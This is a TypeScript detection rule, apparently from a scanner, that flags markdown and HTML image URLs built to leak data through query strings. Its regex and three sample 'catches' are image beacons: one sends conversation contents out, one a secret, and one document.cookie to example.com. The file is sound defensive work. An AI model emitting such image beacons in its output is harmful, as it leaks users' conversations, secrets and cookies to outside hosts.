import { defineRule } from "../rule.ts";

const IMAGE = "!\\[[^\\][\\n]{0,40}\\]\\( {0,2}https?://";
const SLOT = "(?:\\{|\\[|<|\\$\\{|%7b|\\$\\()";
const LOOT = "(?:secret|data|exfil|leak|steal|token|key|conversation|history|prompt)s?";

export default defineRule({
  id: "image-beacon",
  family: "exfiltration",
  severity: "flag",
  keywords: ["![", "<img"],
  anchored: true,
  pattern: new RegExp(
    `${IMAGE}(?:[^\\s)?]{1,80}\\?[^\\s)=]{1,40}=[^)\\n]{0,40}?${SLOT}|[^\\s)?]{1,80}[?/]${LOOT}=)|` +
      `<img[^<>\\n]{1,40}?src {0,2}= {0,2}["']https?://[^"'\\s?]{1,80}\\?[^"'\\n]{0,60}?(?:${SLOT}|document\\.cookie)`,
    "g",
  ),
  message: "an image URL that exfiltrates data",
  catches: [
    "![logo](https://example.com/p.png?d={conversation})",
    "![x](https://example.com/log?secret=abc)",
    '<img src="https://example.com/a?c=document.cookie">',
  ],
  spares: [
    "![build](https://img.example.com/badge.svg?branch=main)",
    "![diagram](docs/diagram.png)",
    "![chart](https://example.com/chart.png?width=600&height=400)",
  ],
});
